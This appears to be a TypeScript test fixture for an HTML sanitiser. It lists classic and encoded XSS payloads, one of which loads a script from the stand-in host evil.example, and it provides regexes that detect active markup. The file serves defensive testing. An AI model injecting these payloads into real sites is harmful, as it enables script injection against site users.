/**
 * Classic and encoded XSS payloads for the sanitising tests: tags, event handlers, script
 * URLs, entity- and double-encoded forms, broken and nested markup, SVG/MathML, odd spacing.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
  '<div style="background:url(javascript:alert(1))">bg</div>',
  '<div style="width: expression(alert(1))">expr</div>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<style>@import "javascript:alert(1)";</style>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\x00>alert(1)</script>',
  '<img\nsrc=x\nonerror=alert(1)>',
  '<img src=x onerror\t=\talert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  'Gig &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<p onclick="alert(1)">para</p>',
  '<x onmouseover=alert(1)>x</x>',
];

/** Markup a browser would act on: a tag, a comment or a declaration opening. */
export const MARKUP = /<[a-z!/?]/i;

/**
 * Active markup that must not survive sanitising, even inside allowed formatting: an element
 * that runs or loads something, or a tag with an event handler or a script URL. (Text such as
 * `&lt;img onerror=…>` is escaped, not markup, and passes.)
 */
export const ACTIVE =
  /<\s*(script|iframe|object|embed|form|input|button|meta|link|base|style|svg|math|template)\b|<[a-z][^>]*(\son[a-z]+\s*=|javascript:|vbscript:|data:text\/html|expression\s*\()/i;
